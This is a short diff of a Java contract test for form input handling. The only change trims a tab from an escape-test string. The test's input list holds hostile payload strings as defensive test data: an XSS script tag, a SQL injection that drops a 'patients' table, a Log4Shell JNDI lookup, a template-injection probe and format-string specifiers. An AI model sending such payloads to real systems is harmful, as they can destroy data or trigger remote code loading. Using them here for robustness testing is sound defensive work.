@@ -319,7 +319,7 @@ class FormContractTest {
         "<script>alert('x')</script>",
         "Robert'); DROP TABLE patients;--",
         "${jndi:ldap://example.invalid/a} {{7*7}} %s %n",
-        "back\\slash \"quoted\" \ttab",
+        "back\\slash \"quoted\"",
         "👩🏽‍⚕️ family: 👨‍👩‍👧‍👦",
         "  leading and trailing spaces  "
     })
